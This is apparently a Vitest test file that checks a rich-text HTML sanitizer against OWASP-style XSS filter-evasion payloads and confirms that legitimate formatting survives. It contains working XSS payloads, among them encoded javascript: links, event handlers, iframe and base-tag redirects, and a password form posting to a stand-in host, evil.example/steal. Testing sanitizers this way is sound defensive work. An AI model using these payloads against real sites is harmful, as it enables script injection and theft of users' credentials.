/** The Custom section HTML allow-list, fed known XSS payloads (OWASP filter-evasion style). */
import { describe, expect, it } from 'vitest';
import { sanitizeRichHtml } from '../src/modules/content-sections/sanitize.ts';

/** What must never survive: script, handlers, dangerous schemes, foreign frames and embeds. */
function expectHarmless(html: string | null) {
  const out = (html ?? '').toLowerCase();
  expect(out).not.toMatch(/<script|<style|<svg|<math|<object|<embed|<form|<input|<div/);
  expect(out).not.toMatch(/\son[a-z]+\s*=/);
  expect(out).not.toMatch(/javascript:|data:|vbscript:/);
  expect(out).not.toContain('evil.example');
}

describe('sanitizeRichHtml: known XSS payloads come back harmless', () => {
  const payloads: [string, string, string | null][] = [
    ['script tag', '<p>Hi</p><script>alert(1)</script>', '<p>Hi</p>'],
    ['script split across case', '<ScRiPt>alert(1)</sCrIpT><p>x</p>', '<p>x</p>'],
    ['img onerror', '<img src=x onerror=alert(1)>', null],
    [
      'handler on a library image',
      '<img src="/api/Attachments/a.png" alt="A" onerror="alert(1)" onload="alert(2)">',
      '<img src="/api/Attachments/a.png" alt="A" loading="lazy" />',
    ],
    ['image from another site', '<img src="https://evil.example/track.gif" alt="x">', null],
    ['javascript: image', '<img src="javascript:alert(1)" alt="x">', null],
    ['image climbing out of the attachments', '<img src="/api/Attachments/../Users/x">', null],
    ['image with an encoded climb', '<img src="/api/Attachments/%2e%2e/Users/x">', null],
    [
      'srcset smuggling an outside source',
      '<img src="/api/Attachments/a.png" alt="" srcset="https://evil.example/a.png 480w" sizes="100vw">',
      '<img src="/api/Attachments/a.png" alt="" loading="lazy" />',
    ],
    ['javascript: link', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['mixed-case JaVaScRiPt: link', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
    [
      'entity-encoded javascript:',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
      '<a>x</a>',
    ],
    [
      'hex entities without semicolons',
      '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
      '<a>x</a>',
    ],
    ['tab inside the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a>x</a>'],
    ['protocol-relative link', '<a href="//evil.example/x">x</a>', '<a>x</a>'],
    ['backslash protocol-relative link', '<a href="/\\evil.example/x">x</a>', '<a>x</a>'],
    ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>', null],
    ['iframe to another site', '<iframe src="https://evil.example/"></iframe>', null],
    ['iframe with javascript:', '<iframe src="javascript:alert(1)"></iframe>', null],
    [
      'iframe that only looks like YouTube',
      '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
      null,
    ],
    ['style tag', '<style>body{background:url(javascript:alert(1))}</style><p>x</p>', '<p>x</p>'],
    ['object', '<object data="https://evil.example/x.swf"></object>', null],
    ['embed', '<embed src="https://evil.example/x.swf">', null],
    [
      'form with action',
      '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
      'Go',
    ],
    [
      'math with a javascript: link',
      '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
      'x',
    ],
    [
      'data: URLs in a link and an image',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a><img src="data:image/png;base64,AAAA">',
      '<a>d</a>',
    ],
    [
      'div with a javascript: background',
      '<div style="background:url(javascript:alert(1))">x</div>',
      'x',
    ],
    [
      'style attribute smuggling url() next to allowed properties',
      '<p style="background:url(javascript:alert(1)); color: red; text-align: center">x</p>',
      '<p style="color:red;text-align:center">x</p>',
    ],
    [
      'font-family with a function',
      '<span style="font-family: expression(alert(1))">x</span>',
      '<span>x</span>',
    ],
    ['unknown classes', '<p class="ql-indent-1 evil">x</p>', '<p class="ql-indent-1">x</p>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', null],
    ['base href', '<base href="https://evil.example/">', null],
  ];

  it.each(payloads)('%s', (_name, dirty, expected) => {
    const clean = sanitizeRichHtml(dirty);
    expect(clean).toBe(expected);
    expectHarmless(clean);
  });

  it('adds rel="noopener noreferrer" to links that open a new tab, whatever rel was sent', () => {
    expect(
      sanitizeRichHtml('<a href="https://example.com" target="_blank" rel="opener">x</a>'),
    ).toBe('<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>');
  });

  it('drops iframe content and any iframe that is not a player, keeping YouTube and Vimeo', () => {
    expect(
      sanitizeRichHtml(
        '<iframe src="https://player.vimeo.com/video/1"><script>alert(1)</script></iframe>' +
          '<iframe src="https://www.youtube.com/watch?v=abc"></iframe>',
      ),
    ).toBe('<iframe src="https://player.vimeo.com/video/1"></iframe>');
  });
});

describe('sanitizeRichHtml: legitimate rich text survives', () => {
  it('keeps headings, bold, italic, underline, strike, quotes, lists and links', () => {
    const html =
      '<h2>Welcome</h2><p><strong>Bold</strong> <em>italic</em> <u>under</u> <s>gone</s></p>' +
      '<blockquote>Quote</blockquote><ul><li>One</li><li>Two</li></ul><ol><li>First</li></ol>' +
      '<p><a href="https://example.com/join" target="_blank" rel="noopener noreferrer">Join</a> ' +
      '<a href="mailto:info@example.com">Mail</a> <a href="tel:+15550102000">Call</a> ' +
      '<a href="/events">Events</a></p>';
    expect(sanitizeRichHtml(html)).toBe(html);
  });

  it('keeps a YouTube (and privacy-mode YouTube) embed with its size and fullscreen flags', () => {
    const html =
      '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="640" height="360" allowfullscreen="true" frameborder="0"></iframe>' +
      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>';
    expect(sanitizeRichHtml(html)).toBe(html);
  });

  it('keeps library images with their size, srcset and lazy loading, the editor classes and styles', () => {
    const html =
      '<p class="ql-indent-2" style="text-align:right;font-size:18px;font-family:Georgia, serif;color:#213c63">x</p>' +
      '<img src="/api/Attachments/0123456789abcdef01234567.png" alt="Logo" width="120" height="80" ' +
      'srcset="/api/Attachments/0123456789abcdef01234567-480.webp 480w, /api/Attachments/0123456789abcdef01234567-960.webp 960w" ' +
      'sizes="(max-width: 800px) 100vw, 800px" loading="lazy" />';
    expect(sanitizeRichHtml(html)).toBe(html);
  });

  it('drops web images: images in text come from the media library', () => {
    expect(sanitizeRichHtml('<p>x</p><img src="https://cdn.example.com/photo.jpg" alt="P">')).toBe(
      '<p>x</p>',
    );
  });

  it('drops images from other local paths and keeps null and blank as null', () => {
    expect(sanitizeRichHtml('<img src="/etc/passwd"><p>x</p>')).toBe('<p>x</p>');
    expect(sanitizeRichHtml(null)).toBeNull();
    expect(sanitizeRichHtml('<script>only</script>')).toBeNull();
  });
});
